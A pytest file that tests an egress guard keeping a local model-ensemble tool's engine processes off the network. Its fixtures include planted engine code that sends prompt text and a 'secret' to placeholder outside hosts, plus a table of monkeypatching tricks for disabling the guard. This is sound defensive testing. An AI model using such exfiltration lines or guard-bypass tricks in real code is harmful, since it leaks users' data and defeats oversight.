"""Nothing leaves a guarded process, whoever asks; the attempts are counted and named."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from localensemble import __version__
from localensemble.core.errors import EgressError
from localensemble.core.identity import sha256_file
from localensemble.engines.settings import EngineSettings
from localensemble.engines.worker.worker_engines import WorkerEngine
from localensemble.privacy.egress import guard_state, guarded_launcher
from tests.privacy.planted import ENSEMBLE, label_arguments, plant_engine, run_python
from tests.studies import study_files

pytestmark = pytest.mark.slow  # starts the program and has it try to go out

# Addresses that documentation may name and nobody answers at (RFC 5737, RFC 2606).
GOING_OUT = {
    "urllib": "urllib.request.urlopen('http://192.0.2.1/')",
    "urllib by name": "urllib.request.urlopen('https://out.example/')",
    "http.client": "http.client.HTTPConnection('192.0.2.1').request('GET', '/')",
    "connect by name": "socket.socket().connect(('out.example', 80))",
    "connect_ex": "socket.socket().connect_ex(('192.0.2.1', 80))",
    "create_connection": "socket.create_connection(('192.0.2.1', 80), 1)",
    "IPv6": "socket.socket(socket.AF_INET6).connect(('2001:db8::1', 80))",
    "unspecified address": "socket.socket().connect(('0.0.0.0', 80))",
    "getaddrinfo": "socket.getaddrinfo('out.example', 80)",
    "gethostbyname": "socket.gethostbyname('out.example')",
    "gethostbyname_ex": "socket.gethostbyname_ex('out.example')",
    "gethostbyaddr": "socket.gethostbyaddr('192.0.2.1')",
    "getnameinfo": "socket.getnameinfo(('192.0.2.1', 80), 0)",
    "sendto": "datagrams().sendto(b'x', ('192.0.2.1', 53))",
    "sendto with flags, by name": "datagrams().sendto(b'x', 0, ('out.example', 53))",
    "sendmsg": "datagrams().sendmsg([b'x'], [], 0, ('192.0.2.1', 53))",
    "sendmsg by name": "datagrams().sendmsg([b'x'], [], 0, ('out.example', 53))",
    "listening for others": "socket.socket().bind(('', 0))",
    "asyncio": "asyncio.run(asyncio.open_connection('192.0.2.1', 80))",
    "a thread": "in_a_thread(lambda: socket.create_connection(('192.0.2.1', 80), 1))",
    "the C module": "_socket.socket().connect(('192.0.2.1', 80))",
    "listening without an address": "socket.socket().listen()",
    "listening without an address, IPv6": "socket.socket(socket.AF_INET6).listen(5)",
    "listening with the C module": "_socket.socket().listen()",
    "listening with a duplicate": "socket.socket().dup().listen()",
    "listening with a descriptor": "socket.socket(fileno=socket.socket().detach()).listen()",
    "create_server": "socket.create_server(('', 0))",
    "asyncio server": "asyncio.run(asyncio.start_server(print, None, 0))",
    "datagrams for all": "datagrams().bind(('0.0.0.0', 0))",
    "a subclass without its checks": "Bare().listen()",
    "a family that lies": "Lying().connect(('192.0.2.1', 80))",
    "a host that lies": "socket.getaddrinfo(Host('out.example'), 80)",
    "an address that lies": "socket.socket().connect(Address(('192.0.2.1', 80)))",
    "a raw socket": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "a descriptor of another family": "disguised().listen()",
    "a descriptor of another family, with the C module": "disguised(_socket.socket).listen()",
    "another kind of socket": "socket.socket(16, socket.SOCK_RAW)",
}
STAYING = {
    "the question whose program is at the other end": "socket.socket(16, socket.SOCK_RAW, 4)",
    "pair": "socket.socketpair()",
    "file": "socket.socket(socket.AF_UNIX).bind(os.path.join(tempfile.mkdtemp(), 's'))",
    "duplicate": "socket.socket().dup()",
    "secure": "ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='x')",
    "asyncio": "asyncio.run(asyncio.start_server(print, '127.0.0.1', 0))",
    "processes": "multiprocessing.connection.Listener()",
    "own server": "serve_and_connect()",
    "localhost": "socket.getaddrinfo('localhost', 80)",
    "IPv6 loopback": "socket.getaddrinfo('::1', 80)",
    "no host": "socket.getaddrinfo(None, 80, flags=socket.AI_PASSIVE)",
    "own name": "socket.getnameinfo(('127.0.0.1', 80), socket.NI_NUMERICHOST)",
}
PLANTED = """\
import _socket, asyncio, http.client, multiprocessing.connection, os, socket, ssl, tempfile
import threading, urllib.request

def datagrams():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

class Bare(socket.socket):
    def __init__(self):
        _socket.socket.__init__(self, socket.AF_INET, socket.SOCK_STREAM)

def disguised(kind=socket.socket):
    return kind(socket.AF_UNIX, fileno=socket.socket().detach())

class Lying(socket.socket):
    family = socket.AF_UNIX

class Host(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__

class Address(tuple):
    def __getitem__(self, place):
        return "127.0.0.1"

def in_a_thread(call):
    raised = []
    def run():
        try:
            call()
        except BaseException as error:
            raised.append(error)
    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if raised:
        raise raised[0]

def serve_and_connect():
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname(), 5)
    client.sendall(b"x")
    client.close()
    server.close()

def main():
    EXPRESSION
"""
GUARDED = """\
import sys
from localensemble import __version__
from localensemble.core.errors import EgressError
from localensemble.core.identity import sha256_file
from localensemble.privacy.egress import guard_state, install_guard

install_guard()
install_guard()
import planted
for name in sys.argv[1:]:
    try:
        getattr(planted, name)()
    except EgressError as error:
        print(error.message)
    else:
        print("nothing was refused")
    print(guard_state().attempts)
"""


def plant(folder: Path, expression: str) -> None:
    (folder / "planted.py").write_text(PLANTED.replace("EXPRESSION", expression), encoding="utf-8")


def plant_all(folder: Path, expressions: dict[str, str]) -> list[str]:
    """Write one function per expression, and give their names."""
    head = PLANTED[: PLANTED.index("def main")]
    names = [f"call_{number}" for number in range(len(expressions))]
    functions = [
        f"def {name}():\n    {expression}\n"
        for name, expression in zip(names, expressions.values(), strict=True)
    ]
    (folder / "planted.py").write_text(head + "\n".join(functions), encoding="utf-8")
    return names


def test_every_way_out_is_refused_counted_and_named(tmp_path: Path) -> None:
    names = plant_all(tmp_path, GOING_OUT)
    ended = run_python(tmp_path, "-c", GUARDED, *names)
    lines = ended.stdout.splitlines()
    said = dict(zip(GOING_OUT, zip(lines[::2], lines[1::2], strict=True), strict=True))
    assert ended.stderr == ""
    for number, (name, (message, attempts)) in enumerate(said.items(), start=1):
        assert message.startswith("Refused to "), f"{name}: {message}"
        assert "planted, line " in message, f"{name}: {message}"
        assert "192.0.2" not in message, "an address can hold text"
        assert "example" not in message, "a host name can hold text"
        assert int(attempts) == number, name


def test_what_stays_on_the_machine_goes_on(tmp_path: Path) -> None:
    names = plant_all(tmp_path, STAYING)
    ended = run_python(tmp_path, "-W", "ignore", "-c", GUARDED, *names)
    assert (ended.stderr, set(ended.stdout.splitlines())) == ("", {"nothing was refused", "0"})


def test_importing_the_package_opens_no_guard_and_no_socket_module() -> None:
    code = "import sys, localensemble; print('socket' in sys.modules)"
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ended.stdout.strip() == "False"


def test_a_launched_process_is_guarded_and_its_attempts_are_counted_here(tmp_path: Path) -> None:
    plant(tmp_path, GOING_OUT["http.client"])
    before = guard_state().attempts
    ended = run_python(tmp_path, "-m", *guarded_launcher(), "planted")
    assert (
        "EgressError: Refused to look up another machine, as requested by planted, line"
        in ended.stderr
    )
    assert guard_state().attempts == before + 1


def test_an_attempt_whose_error_is_swallowed_is_counted(tmp_path: Path) -> None:
    plant(tmp_path, "in_a_thread(lambda: None)")
    with (tmp_path / "planted.py").open("a", encoding="utf-8") as stream:
        stream.write(
            "    try:\n        urllib.request.urlopen('http://192.0.2.1/')\n"
            "    except Exception:\n        pass\n"
        )
    before = guard_state().attempts
    assert run_python(tmp_path, "-m", *guarded_launcher(), "planted").returncode == 0
    assert guard_state().attempts == before + 1


def test_the_engine_process_is_guarded_before_the_engine_is_imported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plant(tmp_path, GOING_OUT["urllib"])
    # In the place of the library, so that it is the first thing the worker imports of it.
    (tmp_path / "llama_cpp").mkdir()
    (tmp_path / "llama_cpp" / "__init__.py").write_text(
        "import planted\nplanted.main()\n", encoding="utf-8"
    )
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    model = tmp_path / "model.gguf"
    model.write_bytes(b"GGUF")
    before = guard_state().attempts
    with pytest.raises(EgressError, match="planted, line"):
        WorkerEngine(EngineSettings(model_path=model, launcher=guarded_launcher()))
    assert guard_state().attempts == before + 1


SENDS = "urllib.request.urlopen('http://192.0.2.1/', prompts[0].messages[-1].text.encode())\n"


@pytest.mark.parametrize("command", [("-m", "localensemble"), ("-c", "SCRIPT")])
def test_an_engine_that_sends_the_texts_away_is_refused(
    tmp_path: Path, command: tuple[str, str]
) -> None:
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    plant_engine(tmp_path, f"        {SENDS}")
    if command[0] == "-c":
        # As the installed command does it.
        command = ("-c", "from localensemble.cli.main import main; main()")
    ended = run_python(
        tmp_path,
        *command,
        *label_arguments(files)[2:],
    )
    assert ended.returncode == 1
    assert "requested by planted_engine, line 9:" in ended.stderr
    assert "secret" not in ended.stderr + ended.stdout
    assert not (files.study / "labels.csv").exists()


def test_requests_is_refused_in_an_engine_of_somebody_else(tmp_path: Path) -> None:
    pytest.importorskip("requests")
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    said = tmp_path / "said.txt"
    plant_engine(
        tmp_path,
        "        try: requests.get('http://out.example/', params={'q': 'a secret'})\n"
        "        except Exception as error: Path(SAID).write_text(str(error))\n".replace(
            "SAID", repr(str(said))
        ),
        imports="import requests\nfrom pathlib import Path",
    )
    ended = run_python(tmp_path, *label_arguments(files))
    assert ended.returncode == 0, ended.stderr
    assert said.read_text().startswith("Refused to look up another machine, as ")
    assert "called by planted_engine, line 10:" in said.read_text()
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["egress_guard"] == {"on": True, "attempts": 1, "self_test": "passed"}
    assert "secret" not in ended.stderr + ended.stdout


def test_the_manifest_counts_what_a_rater_tried_and_swallowed(tmp_path: Path) -> None:
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    plant_engine(tmp_path, f"        try: {SENDS}        except Exception: pass\n")
    ended = run_python(
        tmp_path,
        *label_arguments(files),
    )
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    attempts = manifest["egress_guard"]["attempts"]
    assert ended.returncode == 0
    assert manifest["egress_guard"]["on"] is True
    assert attempts >= 1
    assert f"Refused attempts to connect to another machine: {attempts}." in ended.stderr


def test_the_manifest_states_the_guard_and_no_attempts(tmp_path: Path) -> None:
    files = study_files(tmp_path, ["one", "two"])
    run_python(
        tmp_path,
        *label_arguments(files),
    )
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["egress_guard"] == {"on": True, "attempts": 0, "self_test": "passed"}


def test_the_test_of_the_guard_counts_no_attempt(tmp_path: Path) -> None:
    code = (
        "from localensemble.privacy.egress import guard_refuses, guard_state, install_guard\n"
        "print(guard_refuses(), guard_state().attempts)\n"
        "install_guard()\n"
        "print(guard_refuses(), guard_state().attempts)\n"
    )
    assert run_python(tmp_path, "-c", code).stdout.splitlines() == ["False 0", "True 0"]


# What an engine may assign to get out: the code it assigns, and then an attempt.
DISARMED = {
    "the lists of 0.2": "disarm(egress, '_EVENTS', {}); egress._installed = []",
    "the hook": "disarm(egress, '_audit', lambda *a, **k: (lambda *b: None))",
    "the loopback test": "disarm(decision, '_closed_loopback', lambda: lambda host: True)",
    "the module of addresses": "disarm(ipaddress, 'ip_address', lambda host: LOOPBACK)",
    "the family of files": "disarm(socket, 'AF_UNIX', socket.AF_INET)",
    "the C family of files": "disarm(_socket, 'AF_UNIX', _socket.AF_INET)",
    "the parser of addresses": "disarm(_socket, 'inet_pton', lambda *a: bytes([127, 0, 0, 1]))",
    "builtins": "disarm(builtins, 'tuple', type('T', (), {})); disarm(builtins, 'getattr', print)",
    "the refusal": "disarm(egress, 'EgressError', lambda *a, **k: None)",
    "the names of callers": "disarm(egress, '_callers', lambda: 'planted, line 0')",
    "the methods of sockets": "disarm(socket.socket, 'connect', _socket.socket.connect)",
    "opening": "disarm(socket.socket, '__init__', Bare.__init__)",
    "what a refusal shows": "disarm_frames()",
    "the count": "egress.guarded_launcher() and open(egress.guarded_launcher()[1], 'w').close()",
}
DISARMING = """
import builtins, ipaddress
from localensemble.privacy import decision, egress
LOOPBACK = ipaddress.ip_address("127.0.0.1")

def disarm(place, name, value):
    setattr(place, name, value)

def disarm_frames():
    try:
        socket.socket().connect(("192.0.2.1", 80))
    except Exception as error:
        trace = error.__traceback__
        while trace:
            frame, trace = trace.tb_frame, trace.tb_next
            for name in ("decide", "refusal"):
                if name in frame.f_locals:
                    frame.f_locals[name] = lambda *a: ""
                frame.f_globals.pop(name, None)

"""


@pytest.mark.parametrize("code", DISARMED.values(), ids=DISARMED)
def test_no_assignment_opens_a_way_out(tmp_path: Path, code: str) -> None:
    head = PLANTED[: PLANTED.index("def main")]
    (tmp_path / "planted.py").write_text(
        f"{head}{DISARMING}def out():\n    {code}\n    listen()\n\n"
        "def listen():\n    socket.socket().connect(('192.0.2.1', 80))\n",
        encoding="utf-8",
    )
    ended = run_python(tmp_path, "-c", GUARDED, "out")
    assert ended.stderr == ""
    message, attempts = ended.stdout.splitlines()[-2:]
    assert message.startswith("Refused to ")
    assert int(attempts) >= 1


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux ties a socket to an interface")
def test_linux_ties_every_socket_to_loopback_before_c_code_can_use_it(tmp_path: Path) -> None:
    code = (
        "import _socket, socket\n"
        "from localensemble.privacy.egress import install_guard\n"
        "install_guard()\n"
        "opened = socket.socket()\n"
        "_socket.socket.listen(opened)\n"
        "print(opened.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).strip(b'\\0'))\n"
    )
    assert run_python(tmp_path, "-c", code).stdout.strip() == "b'lo'"


def labeled_by(folder: Path, score: str, *, imports: str = "import socket") -> dict[str, object]:
    """Label with an engine of another package; give what the manifest says of the guard."""
    files = study_files(folder, ["a secret"] * 5, ensemble=ENSEMBLE)
    plant_engine(folder, score, imports=imports)
    ended = run_python(folder, *label_arguments(files))
    assert ended.returncode == 0, ended.stderr
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    guard: dict[str, object] = manifest["egress_guard"]
    assert ("did not refuse every attempt" in ended.stderr) == (guard["self_test"] == "failed")
    return guard


def test_an_engine_that_listens_without_an_address_is_refused_and_counted(tmp_path: Path) -> None:
    tried = (
        "        try: socket.socket().listen()\n"
        "        except Exception as error: assert 'listen for other' in str(error)\n"
        "        else: raise SystemExit(9)\n"
    )
    guard = labeled_by(tmp_path, tried)
    assert (guard["on"], guard["self_test"]) == (True, "passed")
    assert int(str(guard["attempts"])) >= 1


def test_an_engine_that_empties_a_list_of_the_guard_changes_nothing(tmp_path: Path) -> None:
    emptied = (
        "        for module in (egress, decision, attempts, checked_sockets):\n"
        "            for value in vars(module).values():\n"
        "                if type(value) in (list, dict, set): value.clear()\n"
        "        try: socket.create_connection(('192.0.2.1', 80), 1)\n"
        "        except Exception as error: assert 'Refused' in str(error)\n"
        "        else: raise SystemExit(9)\n"
    ).replace("vars(module).values()", "list(v for k, v in vars(module).items() if k[:2] != '__')")
    imports = (
        "import socket\n"
        "from localensemble.privacy import attempts, checked_sockets, decision, egress"
    )
    guard = labeled_by(tmp_path, emptied, imports=imports)
    assert (guard["on"], guard["self_test"]) == (True, "passed")
    assert int(str(guard["attempts"])) >= 1


@pytest.mark.parametrize("method", ["listen", "connect", "__init__"])
def test_the_manifest_says_off_if_an_engine_took_out_a_part_of_the_guard(
    tmp_path: Path, method: str
) -> None:
    undone = f"        socket.socket.{method} = getattr(socket.SocketType, '{method}')\n"
    guard = labeled_by(tmp_path, undone)
    assert (guard["on"], guard["self_test"]) == (False, "failed")


def test_the_manifest_names_the_package_of_an_engine_and_not_what_it_calls_itself(
    tmp_path: Path,
) -> None:
    labeled_by(tmp_path, "        pass\n")
    manifest = json.loads((tmp_path / "study" / "manifest.json").read_text(encoding="utf-8"))
    ours, planted = manifest["raters"]
    assert planted["identity"]["engine"] == "scripted"
    assert planted["engine"] == {
        "engine": "planted",
        "package": "planted-engine",
        "version": "1.0",
        "module": "planted_engine",
        "sha256": sha256_file(tmp_path / "planted_engine.py"),
    }
    assert (ours["engine"]["package"], ours["engine"]["version"]) == ("localensemble", __version__)
    assert len(ours["engine"]["sha256"]) == 64
